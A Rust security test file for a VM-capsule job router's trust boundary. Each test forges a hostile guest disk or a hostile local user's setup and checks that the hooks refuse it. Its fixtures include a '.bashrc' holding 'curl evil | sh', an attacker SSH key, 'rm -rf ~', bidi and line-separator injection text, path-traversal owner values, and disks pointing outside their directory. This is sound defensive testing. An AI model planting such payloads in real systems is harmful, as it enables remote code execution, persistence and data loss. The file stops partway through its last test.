//! The trust boundary (issue 11), one test per attack: a hostile guest (it controls every byte
//! of the returned data disk), a hostile local user (the scratch prefix is shared), crashes
//! and full disks. The hooks run as the stand-in router runs them; where an attack needs two
//! users, real unprivileged accounts (`vmcap-alice`, `vmcap-mallory`, made by `.ci/run`) are
//! used, never the test knob that lets a hook run as another user.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;

use capsule_disk::{Access, CreateOptions, DataDisk, ImageFormat};
use capsule_manifest::{AgentInfo, EntryKind, JobResult, Outcome, OutputEntry};
use classad::eval::{evaluate_attr, string_attr};
use classad::{ClassAd, Expr, Value};

use crate::router::{job_ads, job_ads_of, print_ad, HookRun, Pool};

/// A template with a qcow2 OS disk and a data disk in `format`.
fn template(format: ImageFormat) -> impl Fn(&Path) {
    move |dir: &Path| {
        capsule_disk::Image::create(&dir.join("os.qcow2"), ImageFormat::Qcow2, 64 << 20)
            .unwrap()
            .finish()
            .unwrap();
        let name = match format {
            ImageFormat::Vmdk => "data.vmdk",
            ImageFormat::Raw => "data.img",
            ImageFormat::Qcow2 => "data.qcow2",
        };
        DataDisk::create(
            &dir.join(name),
            &CreateOptions::new().size(64 << 20).format(format),
        )
        .unwrap()
        .finish()
        .unwrap();
        if format == ImageFormat::Vmdk {
            fs::write(
                dir.join("capsule.vmx"),
                "scsi0:0.fileName = \"os.vmdk\"\nscsi0:1.fileName = \"data.vmdk\"\n",
            )
            .unwrap();
        }
    }
}

/// A submitted job: its Iwd, its ad.
struct Job {
    iwd: PathBuf,
    ad: ClassAd,
}

fn job(pool: &Pool, name: &str, submit: &str, cluster: i64) -> Job {
    let iwd = pool.root.path().join("users").join(name);
    fs::create_dir_all(&iwd).unwrap();
    fs::write(iwd.join("job.sh"), "#!/bin/sh\ntrue\n").unwrap();
    let text = format!(
        "executable = {0}/job.sh\ninitialdir = {0}\n{submit}\nqueue\n",
        iwd.display()
    );
    let ad = job_ads(&[(name.to_owned(), text, cluster)]).remove(0);
    Job { iwd, ad }
}

fn scratch_of(routed: &ClassAd) -> PathBuf {
    PathBuf::from(string_attr(routed, "VMCapsuleScratch").unwrap())
}

/// A valid `result.json`: the job exited with `code`, listing `outputs`.
fn result_json(code: u8, outputs: &[&str], error: Option<&str>) -> Vec<u8> {
    let mut r = JobResult::not_started(
        "",
        AgentInfo {
            version: "0.1.0".into(),
            user: "condor".into(),
            uid: 1000,
            setup_secs: 0.0,
        },
    );
    r.outcome = Outcome::Exited { code };
    r.problems.clear();
    if let Some(e) = error {
        r.add_problem(capsule_manifest::ProblemKind::Agent, e);
    }
    r.outputs = outputs
        .iter()
        .map(|p| OutputEntry {
            path: (*p).to_owned(),
            kind: EntryKind::File,
            size: 1,
        })
        .collect();
    r.to_json().unwrap()
}

/// What a hostile guest leaves on the data disk: a result, an `output.tar`, streams.
fn forge(disk: &Path, result: &[u8], output_tar: Option<&[u8]>) {
    let d = DataDisk::open(disk, Access::ReadWrite).unwrap();
    if let Some(tar) = output_tar {
        d.put_file(capsule_manifest::OUTPUT_TAR, &mut &tar[..])
            .unwrap();
    }
    d.put_file(capsule_manifest::DEFAULT_STDOUT, &mut &b""[..])
        .unwrap();
    d.put_file(capsule_manifest::DEFAULT_STDERR, &mut &b""[..])
        .unwrap();
    d.put_file(capsule_manifest::RESULT_JSON, &mut &result[..])
        .unwrap();
    d.finish().unwrap();
}

/// A raw tar member (long names in a GNU long-name member first).
fn member(name: &[u8], kind: tar::EntryType, data: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    if name.len() > 100 {
        out.extend(member(b"././@LongLink", tar::EntryType::GNULongName, name));
    }
    let mut h = tar::Header::new_gnu();
    h.set_size(data.len() as u64);
    h.set_mode(0o644);
    h.set_entry_type(kind);
    let n = name.len().min(100);
    h.as_old_mut().name[..n].copy_from_slice(&name[..n]);
    h.set_cksum();
    out.extend_from_slice(h.as_bytes());
    out.extend_from_slice(data);
    out.resize(out.len().div_ceil(512) * 512, 0);
    out
}

fn tar_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut t = Vec::new();
    for (name, data) in entries {
        t.extend(member(name.as_bytes(), tar::EntryType::Regular, data));
    }
    t.extend([0u8; 1024]);
    t
}

fn attr(attrs: &ClassAd, name: &str) -> Value {
    evaluate_attr(attrs, name)
}

fn listing(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = crate::router::files_under(dir)
        .into_iter()
        .map(|(p, _)| p)
        .collect();
    names.sort();
    names
}

/// Translate, forge the returned disk, finalize: the attributes for the original.
fn run_forged(pool: &Pool, j: &Job, result: &[u8], tar: Option<&[u8]>) -> (HookRun, ClassAd) {
    let routed = pool.translate(&j.ad).unwrap();
    let disk = scratch_of(&routed).join(string_attr(&routed, "VMCapsuleDataDisk").unwrap());
    forge(&disk, result, tar);
    pool.finalize(&j.ad, &routed)
}

// ---------------------------------------------------------------- the hostile guest

/// 11.1: entries the job never declared are reported, not placed.
#[test]
fn item_01_undeclared_outputs_are_not_placed() {
    let pool = Pool::new(&template(ImageFormat::Qcow2));
    let j = job(&pool, "undeclared", "transfer_output_files = out.txt", 1101);
    fs::write(j.iwd.join("input.dat"), "mine").unwrap();
    let tar = tar_of(&[
        (".ssh/authorized_keys", b"ssh-ed25519 attacker"),
        (".bashrc", b"curl evil | sh"),
        ("job.sh", b"#!/bin/sh\nrm -rf ~"),
        ("input.dat", b"replaced"),
        ("out.txt", b"the real output"),
    ]);
    let (_, attrs) = run_forged(&pool, &j, &result_json(0, &["out.txt"], None), Some(&tar));
    assert_eq!(listing(&j.iwd), vec!["input.dat", "job.sh", "out.txt"]);
    assert_eq!(
        fs::read_to_string(j.iwd.join("job.sh")).unwrap(),
        "#!/bin/sh\ntrue\n"
    );
    assert_eq!(fs::read_to_string(j.iwd.join("input.dat")).unwrap(), "mine");
    assert_eq!(attr(&attrs, "ExitCode"), Value::Integer(125));
    let err = string_attr(&attrs, "VMCapsuleError").unwrap();
    assert!(err.contains("\".bashrc\" was not placed"), "{err}");
}

/// 11.1, default rule: top-level files only, never the executable, never a directory.
#[test]
fn item_01_default_rule_places_what_htcondor_would() {
    let pool = Pool::new(&template(ImageFormat::Qcow2));
    let j = job(&pool, "default-rule", "", 1102);
    let tar = tar_of(&[
        (".ssh/authorized_keys", b"key"),
        ("job.sh", b"replaced"),
        ("new.txt", b"new"),
    ]);
    let (_, attrs) = run_forged(&pool, &j, &result_json(0, &["new.txt"], None), Some(&tar));
    assert_eq!(listing(&j.iwd), vec!["job.sh", "new.txt"]);
    assert_eq!(
        fs::read_to_string(j.iwd.join("job.sh")).unwrap(),
        "#!/bin/sh\ntrue\n"
    );
    assert_eq!(attr(&attrs, "ExitCode"), Value::Integer(125));
}

/// 11.4: ten thousand nested entries are placed in one pass, well within the hook's bound.
#[test]
fn item_04_nested_entries_are_placed_in_linear_time() {
    let mut pool = Pool::new(&template(ImageFormat::Qcow2));
    pool.env
        .push(("_CONDOR_VM_CAPSULE_HOOK_TIMEOUT".into(), "60".into()));
    let j = job(&pool, "nested", "transfer_output_files = d", 1104);
    let mut tar = Vec::new();
    let mut dir = String::from("d");
    for level in 0..200 {
        tar.extend(member(dir.as_bytes(), tar::EntryType::Directory, b""));
        for f in 0..49 {
            tar.extend(member(
                format!("{dir}/f{level}-{f}").as_bytes(),
                tar::EntryType::Regular,
                b"x",
            ));
        }
        dir.push_str("/d");
    }
    tar.extend([0u8; 1024]);
    let started = std::time::Instant::now();
    let (_, attrs) = run_forged(&pool, &j, &result_json(0, &["d"], None), Some(&tar));
    assert_eq!(attr(&attrs, "ExitCode"), Value::Integer(0), "{attrs:?}");
    assert_eq!(crate::router::files_under(&j.iwd.join("d")).len(), 200 * 49);
    // Generous: the bound is the hook's own timeout; before the fix this took minutes.
    assert!(started.elapsed().as_secs() < 60);
}

/// 11.5: a 50 MiB GNU long name costs no more than the hook's usual memory.
#[test]
fn item_05_long_names_do_not_cost_memory() {
    let pool = Pool::new(&template(ImageFormat::Qcow2));
    let j = job(&pool, "longname", "request_disk = 204800", 1105);
    let name = "a/".repeat(25 << 20);
    let mut tar = member(name.as_bytes(), tar::EntryType::Regular, b"x");
    tar.extend(member(b"ok.txt", tar::EntryType::Regular, b"fine"));
    tar.extend([0u8; 1024]);
    let routed = pool.translate(&j.ad).unwrap();
    let disk = scratch_of(&routed).join(string_attr(&routed, "VMCapsuleDataDisk").unwrap());
    forge(&disk, &result_json(0, &["ok.txt"], None), Some(&tar));
    let (rss_kib, stdout) = finalize_rss(&pool, &j.ad, &routed);
    let attrs = classad::parse_old_ad(&stdout).unwrap();
    assert_eq!(fs::read_to_string(j.iwd.join("ok.txt")).unwrap(), "fine");
    assert!(string_attr(&attrs, "VMCapsuleError")
        .unwrap()
        .contains("long name is"));
    assert!(rss_kib < 64 * 1024, "finalize peak RSS {rss_kib} KiB");
}

/// Run finalize under GNU time: its peak RSS (KiB) and stdout.
fn finalize_rss(pool: &Pool, original: &ClassAd, routed: &ClassAd) -> (u64, String) {
    let mut src = original.clone();
    src.insert("JobStatus", Expr::integer(4));
    let stdin = format!("{}\n------\n{}", print_ad(&src), print_ad(routed));
    let dir = tempfile::tempdir().unwrap();
    let report = dir.path().join("rss");
    let mut child = Command::new("/usr/bin/time")
        .arg("-f")
        .arg("%M")
        .arg("-o")
        .arg(&report)
        .arg(pool.hooks_dir.join("vm-capsule-finalize"))
        .env_clear()
        .envs(pool.env.iter().map(|(k, v)| (k.as_str(), v.as_str())))
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("GNU time (/usr/bin/time, Debian package `time`) is needed; .ci/run installs it");
    use std::io::Write;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(stdin.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success());
    let rss = fs::read_to_string(&report).unwrap().trim().parse().unwrap();
    (rss, String::from_utf8(out.stdout).unwrap())
}

/// 11.6: a FIFO named like a VMware delta is never opened.
#[test]
fn item_06_a_fifo_in_scratch_does_not_hang_finalize() {
    let mut pool = Pool::new(&template(ImageFormat::Vmdk));
    pool.env
        .push(("_CONDOR_VM_CAPSULE_HOOK_TIMEOUT".into(), "30".into()));
    let j = job(&pool, "fifo", "output = out.txt", 1106);
    let routed = pool.translate(&j.ad).unwrap();
    let scratch = scratch_of(&routed);
    forge(&scratch.join("data.vmdk"), &result_json(4, &[], None), None);
    let made = Command::new("mkfifo")
        .arg(scratch.join("data-000001.vmdk"))
        .status()
        .unwrap();
    assert!(made.success());
    let started = std::time::Instant::now();
    let (_, attrs) = pool.finalize(&j.ad, &routed);
    assert!(started.elapsed().as_secs() < 30);
    assert_eq!(attr(&attrs, "ExitCode"), Value::Integer(4));
}

/// 11.15: a returned disk that is not what was staged is refused, and nothing is placed.
#[test]
fn item_15_a_swapped_disk_is_refused() {
    let pool = Pool::new(&template(ImageFormat::Qcow2));
    let j = job(&pool, "swapped", "", 1115);
    let routed = pool.translate(&j.ad).unwrap();
    let disk = scratch_of(&routed).join("data.qcow2");
    // A 5 GiB raw image (sparse here) carrying a valid result and an output.
    fs::remove_file(&disk).unwrap();
    let raw = DataDisk::create(
        &disk,
        &CreateOptions::new().size(5 << 30).format(ImageFormat::Raw),
    )
    .unwrap();
    raw.finish().unwrap();
    forge(
        &disk,
        &result_json(0, &["big.txt"], None),
        Some(&tar_of(&[("big.txt", b"x")])),
    );
    let (_, attrs) = pool.finalize(&j.ad, &routed);
    assert_eq!(attr(&attrs, "ExitCode"), Value::Integer(125));
    let err = string_attr(&attrs, "VMCapsuleError").unwrap();
    assert!(err.contains("refused"), "{err}");
    assert!(!j.iwd.join("big.txt").exists());
}

/// The virtual size of the disk translate staged.
fn staged_size(disk: &Path) -> u64 {
    capsule_disk::Image::open(disk, Access::ReadOnly)
        .unwrap()
        .virtual_size()
}

/// 11.15: a returned disk whose container reaches outside its job dir (a qcow2 backing file
/// elsewhere, a VMware extent that is a symlink) is refused: the staged disk had neither, and
/// the outputs would come from a file the disk only names.
#[test]
fn item_15_a_disk_naming_files_outside_its_dir_is_refused() {
    // qcow2 with a backing file outside scratch, made with QEMU's own tool.
    let pool = Pool::new(&template(ImageFormat::Qcow2));
    let j = job(&pool, "backed", "", 1151);
    let routed = pool.translate(&j.ad).unwrap();
    let disk = scratch_of(&routed).join("data.qcow2");
    let size = staged_size(&disk);
    let elsewhere = pool.root.path().join("elsewhere.img");
    DataDisk::create(
        &elsewhere,
        &CreateOptions::new().size(size).format(ImageFormat::Raw),
    )
    .unwrap()
    .finish()
    .unwrap();
    forge(
        &elsewhere,
        &result_json(0, &["planted.txt"], None),
        Some(&tar_of(&[("planted.txt", b"x")])),
    );
    fs::remove_file(&disk).unwrap();
    let made = Command::new("qemu-img")
        .args(["create", "-q", "-f", "qcow2", "-F", "raw", "-b"])
        .arg(&elsewhere)
        .arg(&disk)
        .arg(size.to_string())
        .status()
        .unwrap();
    assert!(made.success());
    let (_, attrs) = pool.finalize(&j.ad, &routed);
    assert_eq!(attr(&attrs, "ExitCode"), Value::Integer(125));
    let err = string_attr(&attrs, "VMCapsuleError").unwrap();
    assert!(err.contains("elsewhere.img"), "{err}");
    assert!(err.contains("refused"), "{err}");
    assert!(!j.iwd.join("planted.txt").exists());

    // A VMware descriptor whose extent is a symlink to a disk elsewhere.
    let pool = Pool::new(&template(ImageFormat::Vmdk));
    let j = job(&pool, "linked-extent", "", 1152);
    let routed = pool.translate(&j.ad).unwrap();
    let scratch = scratch_of(&routed);
    let size = staged_size(&scratch.join("data.vmdk"));
    let elsewhere = pool.root.path().join("elsewhere-flat.vmdk");
    DataDisk::create(
        &elsewhere,
        &CreateOptions::new().size(size).format(ImageFormat::Raw),
    )
    .unwrap()
    .finish()
    .unwrap();
    forge(
        &elsewhere,
        &result_json(0, &["planted.txt"], None),
        Some(&tar_of(&[("planted.txt", b"x")])),
    );
    std::os::unix::fs::symlink(&elsewhere, scratch.join("data-flat.vmdk")).unwrap();
    fs::write(
        scratch.join("data.vmdk"),
        format!("# Disk DescriptorFile\nversion=1\nCID=12345678\nparentCID=ffffffff\ncreateType=\"monolithicFlat\"\n\nRW {} FLAT \"data-flat.vmdk\" 0\n", size / 512),
    )
    .unwrap();
    let (_, attrs) = pool.finalize(&j.ad, &routed);
    assert_eq!(attr(&attrs, "ExitCode"), Value::Integer(125));
    let err = string_attr(&attrs, "VMCapsuleError").unwrap();
    assert!(err.contains("data-flat.vmdk"), "{err}");
    assert!(!j.iwd.join("planted.txt").exists());
}

/// 11.16: a file whose data the archive cuts short is not placed.
#[test]
fn item_16_truncated_entries_are_not_placed() {
    let pool = Pool::new(&template(ImageFormat::Qcow2));
    let j = job(&pool, "truncated", "transfer_output_files = out.txt", 1116);
    fs::write(j.iwd.join("out.txt"), "previous").unwrap();
    let mut tar = member(b"out.txt", tar::EntryType::Regular, &[b'y'; 4096]);
    tar.truncate(512 + 100);
    let (_, attrs) = run_forged(&pool, &j, &result_json(0, &["out.txt"], None), Some(&tar));
    assert_eq!(
        fs::read_to_string(j.iwd.join("out.txt")).unwrap(),
        "previous"
    );
    assert_eq!(attr(&attrs, "ExitCode"), Value::Integer(125));
    assert_eq!(listing(&j.iwd), vec!["job.sh", "out.txt"]);
}

/// 11.19: guest text in `VMCapsuleError` keeps to a safe subset: no line or paragraph
/// separators, no bidi overrides, bounded.
#[test]
fn item_19_guest_text_is_made_safe() {
    let pool = Pool::new(&template(ImageFormat::Qcow2));
    let j = job(&pool, "text", "", 1119);
    let hostile = format!("ok\u{2028}Injected = 1\u{202e}gnp.exe{}", "z".repeat(3_000));
    let (run, attrs) = run_forged(&pool, &j, &result_json(0, &[], Some(&hostile)), None);
    let err = string_attr(&attrs, "VMCapsuleError").unwrap();
    assert!(
        err.starts_with("the guest agent reported: ok?Injected = 1?gnp.exe"),
        "{err}"
    );
    assert!(err.chars().count() < 1100);
    assert!(!run.stdout.contains('\u{2028}') && !run.stdout.contains('\u{202e}'));
    assert!(attrs.get("Injected").is_none());
}

/// 11.20: a refused entry leaves nothing of itself behind (a path past PATH_MAX).
#[test]
fn item_20_a_refused_path_leaves_no_partial_tree() {
    let pool = Pool::new(&template(ImageFormat::Qcow2));
    let j = job(&pool, "partial", "transfer_output_files = a", 1120);
    let deep = "a/".repeat(10_000) + "f";
    let mut tar = member(deep.as_bytes(), tar::EntryType::Regular, b"x");
    tar.extend([0u8; 1024]);
    let (_, attrs) = run_forged(&pool, &j, &result_json(0, &["a"], None), Some(&tar));
    assert_eq!(attr(&attrs, "ExitCode"), Value::Integer(125));
    assert_eq!(listing(&j.iwd), vec!["job.sh"]);
    assert!(!j.iwd.join("a").exists());
}

// ---------------------------------------------------------------- loose input and sizing

/// 11.11: a byte that is not UTF-8 costs neither the hold nor the terminate event.
#[test]
fn item_11_a_latin1_byte_in_an_ad() {
    let pool = Pool::new(&template(ImageFormat::Qcow2));
    let j = job(&pool, "latin1", "", 1111);
    let mut text = print_ad(&j.ad).into_bytes();
    text.extend_from_slice(b"Description = \"caf\xe9\"\n");
    let mut stdin = b"[ Name = \"VM capsule\"; TargetUniverse = 13 ]\n------\n".to_vec();
    stdin.extend_from_slice(&text);
    let run = pool.run_hook_bytes("translate", &stdin);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let routed = classad::parse_old_ad(&run.stdout).unwrap();
    let mut fin = text.clone();
    fin.extend_from_slice(b"\n------\n");
    fin.extend_from_slice(print_ad(&routed).as_bytes());
    let run = pool.run_hook_bytes("finalize", &fin);
    assert_eq!(run.code, 0);
    let attrs = classad::parse_old_ad(&run.stdout).unwrap();
    // The disk was never run: finalize says so, it does not go silent.
    assert_eq!(attr(&attrs, "ExitCode"), Value::Integer(125));
}

/// 11.17: loose stdin is refused deliberately (retried, or held with a reason).
#[test]
fn item_17_loose_stdin() {
    let pool = Pool::new(&template(ImageFormat::Qcow2));
    let j = job(&pool, "loose", "", 1117);
    // No route line: the router never sends that; exit non-zero, print nothing.
    let run = pool.run_hook("translate", &print_ad(&j.ad));
    assert_ne!(run.code, 0);
    assert!(run.stdout.is_empty());
    assert!(run.stderr.contains("route line"), "{}", run.stderr);
    let cases: [(&str, Expr, &str); 5] = [
        ("ClusterId", Expr::string("12"), "ClusterId"),
        ("ClusterId", Expr::integer(i64::MAX), "out of range"),
        ("TransferInput", Expr::integer(3), "TransferInput"),
        ("RequestMemory", Expr::integer(i64::MAX), "RequestMemory"),
        ("Owner", Expr::string("../../x"), "Owner"),
    ];
    for (name, value, expected) in cases {
        let mut ad = j.ad.clone();
        ad.insert(name, value);
        let run = pool.translate(&ad).unwrap_err();
        assert!(run.stderr.contains(expected), "{name}: {}", run.stderr);
    }
    let mut ad = j.ad.clone();
    ad.remove("ClusterId");
    let run = pool.translate(&ad).unwrap_err();
    assert!(
        run.stderr.contains("ClusterId is missing"),
        "{}",
        run.stderr
    );
    assert!(
        fs::read_dir(pool.root.path().join("scratch"))
            .unwrap()
            .count()
            <= 1
    );
}

/// 11.13: `Owner` that is not a plain name never becomes a path.
#[test]
fn item_13_owner_is_validated() {
    let pool = Pool::new(&template(ImageFormat::Qcow2));
    let j = job(&pool, "owner", "", 1113);
    for owner in ["../../x", "", "a/b", ".."] {
        let mut ad = j.ad.clone();
        ad.insert("Owner", Expr::string(owner));
        let run = pool.translate(&ad).unwrap_err();
        assert!(run.stderr.contains("Owner"), "{owner:?}: {}", run.stderr);
    }
    assert!(!pool.root.path().join("x").exists());
    assert_eq!(
        fs::read_dir(pool.root.path().join("scratch"))
            .unwrap()
            .count(),
        0
    );
}

/// 11.14: the data disk leaves room for outputs even when condor_submit wrote
/// `RequestDisk = DiskUsage` (about the inputs), and grows with what the job asks.
#[test]
fn item_14_data_disk_sizing() {
    let pool = Pool::new(&template(ImageFormat::Qcow2));
    let small = job(&pool, "small", "", 1114);
    let routed = pool.translate(&small.ad).unwrap();
    let bytes = attr(&routed, "VMCapsuleDataDiskBytes")
        .as_integer()
        .unwrap();
    assert!(
        bytes >= 64 << 20,
        "headroom (64 MiB here) is the floor: {bytes}"
    );
    let big = job(&pool, "big", "request_disk = 300 MB", 1124);
    let routed = pool.translate(&big.ad).unwrap();
    let bytes = attr(&routed, "VMCapsuleDataDiskBytes")
        .as_integer()
        .unwrap();
    assert!(bytes >= 300 << 20, "{bytes}");
    let request = attr(&routed, "RequestDisk").as_integer().unwrap();
    assert!(
        request * 1024 >= bytes,
        "the routed job asks for its disks: {request} KiB"
    );
}

// ---------------------------------------------------------------- crashes and full disks

/// 11.7: scratch full while packing inputs: passing, said as such, nothing left, no hold.
#[test]
fn item_07_scratch_full_is_transient() {
    let mut pool = Pool::new(&template(ImageFormat::Raw));
    let prefix = pool.root.path().join("small-scratch");
    fs::create_dir(&prefix).unwrap();
    let mounted = Command::new("mount")
        .args(["-t", "tmpfs", "-o", "size=6m,mode=1777", "tmpfs"])
        .arg(&prefix)
        .status()
        .unwrap();
    assert!(
        mounted.success(),
        "mounting a small tmpfs needs root (CI runs as root)"
    );
    let _unmount = Unmount(prefix.clone());
    pool.env.push((
        "_CONDOR_VM_CAPSULE_SCRATCH_DIR_PREFIX".into(),
        prefix.display().to_string(),
    ));
    let j = job(&pool, "full", "transfer_input_files = big.dat", 1107);
    let data: Vec<u8> = (0..20u32 << 20).map(|i| (i % 251) as u8).collect();
    fs::write(j.iwd.join("big.dat"), &data).unwrap();
    let run = pool.translate(&j.ad).unwrap_err();
    assert!(
        run.stderr.contains("scratch file system full"),
        "{}",
        run.stderr
    );
    assert!(!run.stderr.contains("condor_hold"), "{}", run.stderr);
    let owner_dir = prefix.join(crate::router::current_user());
    assert_eq!(
        fs::read_dir(&owner_dir)
            .unwrap()
            .filter(|e| !e
                .as_ref()
                .unwrap()
                .file_name()
                .to_string_lossy()
                .starts_with(".vm-capsule"))
            .count(),
        0
    );
}

struct Unmount(PathBuf);
impl Drop for Unmount {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg(&self.0).status();
    }
}

/// 11.8: `kill -9` in the middle of finalize, then a re-run: the same tree as one run, no
/// temporary files left.
#[test]
fn item_08_finalize_killed_and_rerun_converges() {
    let pool = Pool::new(&template(ImageFormat::Qcow2));
    let j = job(&pool, "killed", "transfer_output_files = o", 1108);
    let names: Vec<String> = (0..300).map(|i| format!("o/f{i:03}")).collect();
    let blob = vec![7u8; 64 << 10];
    let entries: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), &blob[..])).collect();
    let routed = pool.translate(&j.ad).unwrap();
    let disk = scratch_of(&routed).join("data.qcow2");
    forge(
        &disk,
        &result_json(0, &["o"], None),
        Some(&tar_of(&entries)),
    );
    let mut src = j.ad.clone();
    src.insert("JobStatus", Expr::integer(4));
    let stdin = format!("{}\n------\n{}", print_ad(&src), print_ad(&routed));
    for delay_ms in [5, 20, 60] {
        pool.run_hook_killed("finalize", &stdin, delay_ms);
    }
    let (_, attrs) = pool.finalize(&j.ad, &routed);
    assert_eq!(attr(&attrs, "ExitCode"), Value::Integer(0));
    let files = listing(&j.iwd);
    assert_eq!(files.len(), 301, "{:?}", &files[..files.len().min(5)]);
    assert!(
        files.iter().all(|f| !f.contains(".vm-capsule.")),
        "leftover temp files"
    );
}

/// 11.9: a killed translate's dir is reclaimed by a later translate; a refused job stages
/// nothing; kept failed dirs are bounded.
#[test]
fn item_09_stale_and_failed_dirs_are_reclaimed() {
    let mut pool = Pool::new(&template(ImageFormat::Qcow2));
    pool.env
        .push(("_CONDOR_VM_CAPSULE_KEEP_FAILED".into(), "1".into()));
    let owner_dir = pool
        .root
        .path()
        .join("scratch")
        .join(crate::router::current_user());
    // A refused job (missing input) leaves no dir at all.
    let missing = job(&pool, "missing", "transfer_input_files = nope.dat", 1109);
    pool.translate(&missing.ad).unwrap_err();
    assert!(!owner_dir.exists() || fs::read_dir(&owner_dir).unwrap().count() == 0);
    // A translate killed while staging leaves `.staging`; an hour later it is reclaimed.
    let slow = job(&pool, "slow", "transfer_input_files = big.dat", 1119);
    fs::write(slow.iwd.join("big.dat"), vec![1u8; 200 << 20]).unwrap();
    let stdin = format!(
        "[ Name = \"VM capsule\"; TargetUniverse = 13 ]\n------\n{}",
        print_ad(&slow.ad)
    );
    let staging_dirs = || -> Vec<PathBuf> {
        fs::read_dir(&owner_dir)
            .map(|rd| {
                rd.map(|e| e.unwrap().path())
                    .filter(|p| p.to_string_lossy().ends_with(".staging"))
                    .collect()
            })
            .unwrap_or_default()
    };
    // Killed while staging: as soon as its staging dir exists.
    let killed = pool.run_hook_killed_when("translate", &stdin, &|| !staging_dirs().is_empty());
    assert!(killed, "translate ended before it was killed");
    let staging = staging_dirs();
    assert_eq!(staging.len(), 1);
    let old = std::time::SystemTime::now() - std::time::Duration::from_secs(7 * 3600);
    fs::File::open(&staging[0])
        .unwrap()
        .set_modified(old)
        .unwrap();
    let _ = fs::remove_file(owner_dir.join(".vm-capsule-swept"));
    let ok = job(&pool, "ok", "", 1129);
    let routed = pool.translate(&ok.ad).unwrap();
    assert!(!staging[0].exists());
    // Failed finalizes keep their dirs, at most VM_CAPSULE_KEEP_FAILED of them.
    let mut kept = Vec::new();
    for (i, name) in ["f1", "f2", "f3"].iter().enumerate() {
        let f = job(&pool, name, "", 1140 + i64::try_from(i).unwrap());
        let routed = pool.translate(&f.ad).unwrap();
        pool.finalize(&f.ad, &routed); // never ran: no result
        pool.cleanup(&routed);
        kept.push(scratch_of(&routed));
        std::thread::sleep(std::time::Duration::from_millis(1100));
    }
    assert_eq!(kept.iter().filter(|d| d.exists()).count(), 1);
    assert!(kept[2].exists(), "the newest failed dir is the one kept");
    pool.cleanup(&routed);
}

// ---------------------------------------------------------------- other local users

/// Real unprivileged accounts for the attacks that need two users.
fn account(name: &str) -> (u32, u32) {
    let user = nix::unistd::User::from_name(name)
        .unwrap()
        .unwrap_or_else(|| {
            panic!("user {name} is missing: .ci/run creates it (useradd -M {name})")
        });
    (user.uid.as_raw(), user.gid.as_raw())
}

/// A pool whose hooks run as `vmcap-alice`, without the test knob; Iwds belong to alice.
fn alice_pool() -> (Pool, (u32, u32)) {
    let alice = account("vmcap-alice");
    let mut pool = Pool::new(&template(ImageFormat::Qcow2));
    pool.env
        .retain(|(k, _)| k != "_CONDOR_VM_CAPSULE_TEST_ANY_USER");
    pool.run_as = Some(alice);
    fs::set_permissions(pool.root.path(), fs::Permissions::from_mode(0o755)).unwrap();
    (pool, alice)
}

fn alice_job(pool: &Pool, alice: (u32, u32), name: &str, submit: &str, cluster: i64) -> Job {
    let iwd = pool.root.path().join("users").join(name);
    fs::create_dir_all(&iwd).unwrap();
    fs::set_permissions(
        pool.root.path().join("users"),
        fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    fs::write(iwd.join("job.sh"), "#!/bin/sh\ntrue\n").unwrap();
    for p in [&iwd, &iwd.join("job.sh")] {
        std::os::unix::fs::chown(p, Some(alice.0), Some(alice.1)).unwrap();
    }
    let text = format!(
        "executable = {0}/job.sh\ninitialdir = {0}\n{submit}\nqueue\n",
        iwd.display()
    );
    let ad = job_ads_of("vmcap-alice", &[(name.to_owned(), text, cluster)]).remove(0);
    Job { iwd, ad }
}

/// 11.2: another user's squat on `<prefix>/<owner>` (an open dir, or a link to their own)
/// is refused and left as it was; the victim's job waits (no hold) with a clear reason.
#[test]
fn item_02_scratch_squatting_is_refused() {
    let (pool, alice) = alice_pool();
    let mallory = account("vmcap-mallory");
    let owner_dir = pool.root.path().join("scratch").join("vmcap-alice");
    fs::create_dir(&owner_dir).unwrap();
    std::os::unix::fs::chown(&owner_dir, Some(mallory.0), Some(mallory.1)).unwrap();
    fs::set_permissions(&owner_dir, fs::Permissions::from_mode(0o777)).unwrap();
    let j = alice_job(&pool, alice, "squat", "", 1102);
    let run = pool.translate(&j.ad).unwrap_err();
    assert!(run.stderr.contains("refusing to use it"), "{}", run.stderr);
    assert!(
        !run.stderr.contains("condor_hold"),
        "an admin problem holds no job: {}",
        run.stderr
    );
    let meta = fs::metadata(&owner_dir).unwrap();
    assert_eq!(meta.permissions().mode() & 0o777, 0o777);
    assert_eq!(std::os::unix::fs::MetadataExt::uid(&meta), mallory.0);
    assert_eq!(fs::read_dir(&owner_dir).unwrap().count(), 0);
    // A link to mallory's own dir is no better.
    fs::remove_dir(&owner_dir).unwrap();
    let theirs = pool.root.path().join("mallory-dir");
    fs::create_dir(&theirs).unwrap();
    std::os::unix::fs::symlink(&theirs, &owner_dir).unwrap();
    let run = pool.translate(&j.ad).unwrap_err();
    assert!(run.stderr.contains("is a link"), "{}", run.stderr);
    assert_eq!(fs::read_dir(&theirs).unwrap().count(), 0);
}

/// 11.3: hooks never create the prefix: every user's jobs would then depend on the first one.
#[test]
fn item_03_a_missing_prefix_is_the_admins_to_create() {
    let (mut pool, alice) = alice_pool();
    // Under a /tmp-like dir where the first submitter could create it.
    let shared = pool.root.path().join("tmp");
    fs::create_dir(&shared).unwrap();
    fs::set_permissions(&shared, fs::Permissions::from_mode(0o1777)).unwrap();
    let missing = shared.join("no-such-prefix");
    pool.env.push((
        "_CONDOR_VM_CAPSULE_SCRATCH_DIR_PREFIX".into(),
        missing.display().to_string(),
    ));
    let j = alice_job(&pool, alice, "noprefix", "", 1103);
    let run = pool.translate(&j.ad).unwrap_err();
    assert!(
        run.stderr.contains("install -d -m 1777 -o root"),
        "{}",
        run.stderr
    );
    assert!(!missing.exists());
}

/// 11.10: cleanup removes only a job dir of ours, never `<prefix>/<owner>/..`.
#[test]
fn item_10_cleanup_guard() {
    let (pool, alice) = alice_pool();
    let j = alice_job(&pool, alice, "cleanup", "", 1110);
    let mut routed = pool.translate(&j.ad).unwrap();
